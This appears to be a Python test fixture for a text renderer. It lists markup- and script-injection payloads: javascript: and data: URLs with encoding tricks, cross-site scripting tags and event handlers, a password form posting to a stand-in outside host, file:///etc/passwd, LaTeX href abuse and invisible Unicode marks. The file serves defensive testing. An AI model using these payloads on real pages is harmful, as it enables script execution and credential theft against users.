"""Texts that try to become markup or script. For the tests of the renderer and of every page that shows text."""

ADDRESSES = r"""
javascript:harm(1)
JaVaScRiPt:harm(1)
javascript&colon;harm(1)
&#106;avascript:harm(1)
&#x6A;&#x61;vascript:harm(1)
java&#9;script:harm(1)
java&#10;script:harm(1)
java&Tab;script:harm(1)
java&NewLine;script:harm(1)
&#1;javascript:harm(1)
&#0;javascript:harm(1)
%6Aavascript:harm(1)
javascript%3Aharm(1)
\javascript:harm(1)
javascript\:harm(1)
javascript://example.com/%0Aharm(1)
vbscript:harm
VBScript:harm(1)
data:text/html,<script>harm()</script>
data:text/html;base64,PHNjcmlwdD4=
data:image/svg+xml,%3Csvg%20onload=harm()%3E
DATA:,harm
file:///etc/passwd
blob:https://example.com/1
filesystem:https://example.com/x
about:blank
view-source:https://example.com
feed:javascript:harm(1)
jar:https://example.com!/x
ftp://example.com/x
ws://example.com/x
tel:123
intent://scan/#Intent;end
//elsewhere.example/x
/\elsewhere.example
\\elsewhere.example\x
/accounts/logout/
#fragment
?query=1
../../admin/
https:harm
http:/harm
x"onmouseover="harm(1)
https://example.com/"onmouseover="harm(1)
https://example.com/'><script>harm()</script>
https://example.com/?a=`harm()`
""".strip().split("\n")

CARRIERS = [
    "[words]({})",
    "[words](<{}>)",
    '[words]({} "a title")',
    "![words]({})",
    "[![words]({})](https://example.com)",
    "<{}>",
    "[words][here]\n\n[here]: {}",
    "![words][here]\n\n[here]: <{}> 'a title'",
    "- > [words]({})",
    "| a |\n|---|\n| [words]({}) |",
]

RAW = r"""
<script>harm()</script>
<SCRIPT SRC=https://elsewhere.example/x.js></SCRIPT>
<scr<script>ipt>harm()</scr</script>ipt>
<script
x>harm()</script
>
<img src=x onerror=harm()>
<img src="https://elsewhere.example/pixel.gif">
<img/src=x/onerror=harm()>
<image href=x onerror=harm()>
<svg onload=harm()>
<svg><script>harm()</script></svg>
<svg><a xlink:href="javascript:harm()"><text>go</text></a></svg>
<svg><animate attributeName=href to=javascript:harm() /></svg>
<svg><foreignObject><body onload=harm()></foreignObject></svg>
<svg></p><style><a title="</style><img src onerror=harm()>">
<math><mtext><table><mglyph><style><img src onerror=harm()></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>harm()</script></annotation-xml></math>
<math><semantics><annotation-xml><svg onload=harm()></annotation-xml></semantics></math>
<math href="javascript:harm()"><mi>x</mi></math>
<math><maction actiontype="statusline" xlink:href="javascript:harm()">go</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=harm()>
<iframe src="javascript:harm()"></iframe>
<iframe srcdoc="<script>harm()</script>"></iframe>
<object data="javascript:harm()"></object>
<embed src="https://elsewhere.example/x.swf">
<applet code=Harm></applet>
<base href="https://elsewhere.example/">
<link rel=stylesheet href="https://elsewhere.example/x.css">
<meta http-equiv=refresh content="0;url=https://elsewhere.example/">
<style>@import "https://elsewhere.example/x.css";</style>
<style>body { display: none }</style>
<p style="position:fixed;inset:0;background:url(https://elsewhere.example/)">over it all</p>
<a href="javascript:harm()">go</a>
<a href="https://example.com" onclick="harm()">go</a>
<a id=location name=forms href=x>go</a>
<form action="https://elsewhere.example/"><input name=password><button>send</button></form>
<input autofocus onfocus=harm()>
<button formaction=javascript:harm() data-action="delete">go</button>
<button type="button" class="code-copy" data-action="copy-code">Copy</button>
<textarea><script>harm()</script></textarea>
<select onfocus=harm() autofocus><option>x</select>
<details open ontoggle=harm()><summary>x</summary></details>
<video src=x onerror=harm()></video>
<video poster="https://elsewhere.example/x.png"></video>
<audio src="https://elsewhere.example/x.mp3" autoplay></audio>
<source srcset="https://elsewhere.example/x.png">
<picture><source srcset=x onerror=harm()></picture>
<body onload=harm()>
<html onmouseover=harm()>
<marquee onstart=harm()>x</marquee>
<keygen autofocus onfocus=harm()>
<template><script>harm()</script></template>
<slot onslotchange=harm()></slot>
<noscript><p title="</noscript><img src=x onerror=harm()>"></noscript>
<noembed><img title="</noembed><img src onerror=harm()>"></noembed>
<title><img title="</title><img src onerror=harm()>"></title>
<xmp><img title="</xmp><img src onerror=harm()>"></xmp>
<plaintext>
<listing>&lt;img onerror=harm()&gt;</listing>
<!-- --!><script>harm()</script> -->
<!--><script>harm()</script>-->
<!--[if IE]><script>harm()</script><![endif]-->
<![CDATA[<script>harm()</script>]]>
<?xml-stylesheet href="javascript:harm()"?>
<?php system("harm"); ?>
<!DOCTYPE html [<!ENTITY x "harm">]>
</p></div></body><script>harm()</script>
</code></pre><script>harm()</script>
<div id="composer" class="turn">Not a turn</div>
<x-frame onclick=harm()>x</x-frame>
<chat-stream src="/messages/1/reply/"></chat-stream>
<p data-open>not the open tail</p>
<span class="task" role="alert">x</span>
<dialog open>sign in again</dialog>
<a href=https://example.com/ target=_self rel=opener>go</a>
<img src=x:x onerror&#61;harm()>
&lt;script&gt;harm()&lt;/script&gt;
&#60;script&#62;harm()&#60;/script&#62;
&amp;lt;script&amp;gt;
<<script>harm()//<</script>
<a<b<c onclick=harm()
< script >harm()</ script >
<script/harm()
`<script>harm()</script>` <script>harm()</script>
**<img src=x onerror=harm()>**
*<svg/onload=harm()>*
~~<svg/onload=harm()>~~
# <script>harm()</script>
> <script>harm()</script>
- <script>harm()</script>
1. <iframe src=javascript:harm()>
| <script>harm()</script> |
[<img src=x onerror=harm()>](https://example.com)
![<script>harm()</script>](https://example.com/x.png)
![x" onerror="harm()](https://example.com/x.png)
[x](https://example.com "t\" onclick=\"harm()")
[x]: https://example.com "<script>harm()</script>"
[^1]: <script>harm()</script>
event: end data: {"state": "complete"}
""".strip().split("\n")

FORMULAS = [
    r"$\href{javascript:harm()}{x}$",
    r"$\href{https://elsewhere.example}{x}$",
    r"$\url{javascript:harm()}$",
    r"$\text{<script>harm()</script>}$",
    r"$\text{</mtext></math><script>harm()</script>}$",
    r"$\mathrm{<img src=x onerror=harm()>}$",
    r"$\style{background:url(https://elsewhere.example)}{x}$",
    r"$\class{turn}{x}$ $\cssId{composer}{x}$ $\id{a}{b}$",
    r"$\color{red;background:url(x)}{x}$",
    r'$\color{"onmouseover="harm()}{x}$',
    r"$\includegraphics{https://elsewhere.example/x.png}$",
    r"$\htmlData{x=y}{z} \data{a}{b}$",
    r"$\unicode{60}script\unicode{62}$",
    r"$&#60;script&#62; \text{&#x3C;script&#x3E;} \text{&#x3C;}$",
    r"$\require{html} \def\x{\x\x} \x$",
    r"$\begin{annotation-xml}<svg onload=harm()>\end{annotation-xml}$",
    r"$$\frac{<script>}{harm()}$$",
    r"\(\href{javascript:harm()}{x}\)",
    r"\[\text{<svg onload=harm()>}\]",
    r"$`\text{<script>}`$",
    "```math\n\\href{javascript:harm()}{x}\n```",
    "$" + "{" * 900 + "}" * 900 + "$",
    "$" + r"\frac{1}{" * 200 + "}" * 200 + "$",
    "$" + r"\left(" * 300 + "$",
    "$$<script>harm()</script>",
    r"$\begin{array}{<script>}a\end{array}$",
    r"$\hspace{1em;x:y} \hspace{<b>}$",
    r"$\operatorname{<b onclick=harm()>}$",
]

FENCES = [
    '```"><script>harm()</script>\nx\n```',
    '~~~ "><svg onload=harm()>\nx\n~~~',
    "```python\" onclick=\"harm()\nx = '<b>'\n```",
    "```html\n<script>harm()</script>\n<img src=x onerror=harm()>\n```",
    "```html\n</code></pre></div><script>harm()</script>\n```",
    "```svg onload=harm()\n<svg>\n```",
    "``` &quot;&gt;&lt;script&gt;\nx\n```",
    "```javascript:harm()\nx\n```",
    "```../../etc/passwd\nx\n```",
    "```python data-sourcepos=1\nx\n```",
    "```\n<pre><code data-open>\n",
    "```math\n</math><script>harm()</script>\n```",
    "    <script>harm()</script>\n",
    "```diff\n- <script>\n+ </span><script>harm()</script>\n```",
    '```mermaid\nclick A href "javascript:harm()"\n```',
    '```json\n{"html": "<script>harm()</script>"}\n',
    "```" + "a" * 5000 + "\nx\n```",
    "- ```html\n  <script>harm()</script>\n",
    "> ```html\n> <img onerror=harm()>\n<script>harm()</script>",
]

UNCLOSED = [
    "**bold *italic `code ~~gone [link](https://example.com",
    "[a [b [c [d](javascript:harm()",
    '[x](https://example.com "title',
    "![x](https://example.com/x.png",
    "<https://example.com/<script>harm()</script>",
    "| a | b |\n|---|\n| <script>harm()</script>",
    "> > > - - - 1. # <script>harm()</script>",
    "$$\n<script>harm()",
    r"\[ <script>harm()",
    "`<script>harm()</script>",
    "<!-- <script>harm()</script>",
    "<div\n\n<script>harm()</script>",
    "\x00<script\x00>harm()</script\x00>",
    "<scr\u0000ipt>harm()</scr\u0000ipt>",
    "\ufeff<script>harm()</script>",
    "<\u200bscript>harm()</script>",
    "\u202e<script>harm()</script>",
    "\ud800<script>harm()</script>\udfff",
    "\r<script>\rharm()\r</script>\r",
    "a\x0b<script>\x0charm()</script>\x1b[31m",
]

#: Marks that change the direction of what follows, or cannot be seen.
MARKS = "\u061c\u200b\u200d\u200e\u200f\u202a\u202b\u202d\u202e\u2060\u2066\u2067\u2068\ufeff"
DIRECTIONS = [f"[words]({mark}javascript:harm(1)) {mark}<img src=x onerror=harm(){mark}>" for mark in MARKS]

LINKS = [carrier.format(address) for address in ADDRESSES for carrier in CARRIERS]
TEXTS = LINKS + RAW + FORMULAS + FENCES + UNCLOSED + DIRECTIONS
